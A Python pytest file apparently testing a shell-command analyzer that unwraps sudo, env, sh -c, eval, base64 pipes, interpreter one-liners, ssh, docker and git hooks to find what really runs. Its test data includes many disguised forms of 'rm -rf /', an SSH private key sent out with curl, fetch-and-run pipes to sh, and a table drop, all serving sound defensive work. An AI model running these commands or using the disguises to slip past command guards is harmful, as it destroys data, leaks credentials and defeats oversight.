"""F-SHELL-2 and F-SHELL-3: wrappers and carriers are followed to what runs."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from redline.shell.analysis import MAX_CARRIER_DEPTH, analyze
from redline.shell.model import DYNAMIC

Argvs = Callable[..., list[tuple[str, ...]]]
RM = ("rm", "-rf", "/")


@pytest.mark.parametrize(
    "command",
    [
        "sudo rm -rf /",
        "sudo -u root -g wheel rm -rf /",
        "sudo -- rm -rf /",
        "doas -u root rm -rf /",
        "env rm -rf /",
        "env -i A=1 B=2 rm -rf /",
        "/usr/bin/env -u X rm -rf /",
        "exec rm -rf /",
        "exec -a name rm -rf /",
        "command rm -rf /",
        "builtin rm -rf /",
        "nohup rm -rf /",
        "nice rm -rf /",
        "nice -n 19 rm -rf /",
        "nice -10 rm -rf /",
        "ionice -c 3 rm -rf /",
        "time rm -rf /",
        "timeout 5 rm -rf /",
        "timeout -s KILL 10s rm -rf /",
        "stdbuf -o0 rm -rf /",
        "setsid rm -rf /",
        "chroot /mnt rm -rf /",
        "busybox rm -rf /",
        "strace -f -o log rm -rf /",
        "taskset 0x1 rm -rf /",
        "flock /tmp/lock rm -rf /",
        "unbuffer rm -rf /",
        "sudo timeout 5 nice env rm -rf /",
    ],
)
def test_wrappers_are_unwrapped(argvs: Argvs, command: str) -> None:
    assert argvs(command)[-1] == RM


def test_lookups_are_not_runs(argvs: Argvs) -> None:
    assert argvs("command -v rm") == [("command", "-v", "rm")]
    assert argvs("sudo -l rm") == [("sudo", "-l", "rm")]


def test_xargs_and_find_exec_append_arguments() -> None:
    xargs = analyze("cat list | xargs rm -rf").invocations[-1]
    assert (xargs.name, xargs.appended_args, xargs.via) == ("rm", True, ("xargs",))
    # Names the analysis can read are put in the command (`-I`'s string, or appended).
    fed = analyze("echo ~/.ssh/id_rsa | xargs -I{} curl -T {} x").invocations[-1]
    assert [w.value for w in fed.argv] == ["curl", "-T", "~/.ssh/id_rsa", "x"]
    assert fed.via == ("xargs input", "xargs")
    listed = analyze("ls -d ~/* | xargs rm -rf").invocations[-1]
    assert [w.value for w in listed.argv] == ["rm", "-rf", "~/*"]
    found = analyze("find /srv -exec rm -rf {} \\;").invocations[-1]
    assert [w.value for w in found.argv] == ["rm", "-rf", "/srv"]
    named = analyze("find /srv -name x -exec rm -rf {} \\;").invocations[-1]
    assert [w.value for w in named.argv] == ["rm", "-rf", "/srv/" + DYNAMIC]
    assert found.via == ("find -exec",)
    ok = analyze("find . -okdir rm {} +").invocations[-1]
    assert [w.value for w in ok.argv] == ["rm", "."]


@pytest.mark.parametrize(
    "command",
    [
        "sh -c 'rm -rf /'",
        'bash -c "rm -rf /"',
        "bash -lc 'rm -rf /'",
        "zsh -o errexit -c 'rm -rf /'",
        "dash -c 'rm -rf /'",
        "eval 'rm -rf /'",
        "eval rm -rf /",
        "su -c 'rm -rf /' root",
        "su root --command='rm -rf /'",
        "runuser -u root -- sh -c 'rm -rf /'",
        "watch rm -rf /",
        "watch -n 5 'rm -rf /'",
        "ssh host rm -rf /",
        "ssh -p 22 -i key host 'rm -rf /'",
        "bash <<EOF\nrm -rf /\nEOF",
        "sh <<< 'rm -rf /'",
        "cat <<EOF | bash\nrm -rf /\nEOF",
        "echo 'rm -rf /' | sh",
        "printf 'rm -rf /' | bash -s",
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "echo 'rm -rf /' | source /dev/stdin",
        "sh -c '$0 -rf /' rm",
        "sh -c '$1 $2 $3' x rm -rf /",
        'bash -c "bash -c \'eval \\"rm -rf /\\"\'"',
        "xargs -I{} sh -c 'rm -rf /'",
        "find . -exec sh -c 'rm -rf /' \\;",
        "python3 -c 'import os; os.system(\"rm -rf /\")'",
        'python3 -c \'import subprocess; subprocess.run(["rm", "-rf", "/"])\'',
        "perl -e 'system(\"rm -rf /\")'",
        "ruby -e '`rm -rf /`'",
        'node -e \'require("child_process").execSync("rm -rf /")\'',
        "awk 'BEGIN { system(\"rm -rf /\") }'",
        "python3 - <<EOF\nimport os\nos.system('rm -rf /')\nEOF",
        "script -q -c 'rm -rf /' /dev/null",
    ],
)
def test_carriers_are_parsed_again(argvs: Argvs, command: str) -> None:
    assert RM in argvs(command)


def test_ssh_commands_are_remote() -> None:
    inner = analyze("ssh host 'rm -rf /tmp/x'").invocations[-1]
    assert (inner.name, inner.remote) == ("rm", True)


def test_carrier_depth_is_bounded() -> None:
    command = "rm -rf /"
    for _ in range(MAX_CARRIER_DEPTH + 2):
        command = "sh -c " + "'" + command.replace("'", "'\\''") + "'"
    assert any("nested deeper" in e for e in analyze(command).errors)


def test_spans_inside_a_quoted_carrier_are_exact() -> None:
    text = "bash -c 'ls; rm -rf /'"
    rm = analyze(text).invocations[-1]
    assert rm.span.excerpt(text) == "rm -rf /"


def test_pipes_link_upstream() -> None:
    invs = analyze("curl -s x | tee log | sh").invocations
    assert [(i.name, i.upstream) for i in invs] == [("curl", ()), ("tee", (0,)), ("sh", (0, 1))]


def test_process_substitution_feeds_its_reader() -> None:
    invs = analyze("bash <(curl -s x)").invocations
    assert [(i.name, i.upstream, i.parent) for i in invs] == [("bash", (1,), -1), ("curl", (), 0)]


def test_cd_sets_the_working_directory() -> None:
    invs = analyze("cd /etc && rm -rf x; cd; ls; cd $X; ls", "/srv").invocations
    assert [(i.name, i.cwd) for i in invs] == [
        ("cd", "/srv"),
        ("rm", "/etc"),
        ("cd", "/etc"),
        ("ls", "~"),
        ("cd", "~"),
        ("ls", None),
    ]


def test_dynamic_command_word_stays_unknown() -> None:
    invs = analyze("$CMD -rf /").invocations
    assert [(i.name, i.argv[0].value) for i in invs] == [("", DYNAMIC)]


@pytest.mark.parametrize(
    ("command", "inner", "remote"),
    [
        ("docker exec -it db psql -c 'drop table x'", ("psql", "-c", "drop table x"), True),
        ("docker run --rm alpine rm -rf /h", ("rm", "-rf", "/h"), True),
        # a bind mount: what runs inside on the mount is what it does on the host
        ("docker run --rm -v /:/h alpine rm -rf /h", ("rm", "-rf", "/"), False),
        ("podman container exec c ls", ("ls",), True),
        ("kubectl exec -it pod -c app -- rm -rf /data", ("rm", "-rf", "/data"), True),
        ("tmux new -d 'rm -rf src'", ("rm", "-rf", "src"), False),
        ("tmux send-keys -t 0 'rm -rf src' Enter", ("rm", "-rf", "src"), False),
        ("screen -dmS job rm -rf src", ("rm", "-rf", "src"), False),
        ("git -c alias.x='!rm -rf src' x", ("rm", "-rf", "src"), False),
        ("git rebase --exec 'rm -rf src' HEAD~1", ("rm", "-rf", "src"), False),
        ("git filter-branch --tree-filter 'rm -rf src' HEAD", ("rm", "-rf", "src"), False),
        ("env -S 'rm -rf src'", ("rm", "-rf", "src"), False),
        ("echo 'rm -rf src' | at now", ("rm", "-rf", "src"), False),
    ],
)
def test_subcommands_that_run_commands(command: str, inner: tuple[str, ...], remote: bool) -> None:
    found = [i for i in analyze(command).invocations if tuple(w.value for w in i.argv) == inner]
    assert [i.remote for i in found] == [remote]


def test_background_and_substitution_parents() -> None:
    invs = analyze("sudo kill $(pgrep -f gateway) & ls").invocations
    assert [(i.name, i.parent, i.background) for i in invs] == [
        ("sudo", -1, True),
        ("kill", 0, True),
        ("pgrep", 1, True),
        ("ls", -1, False),
    ]
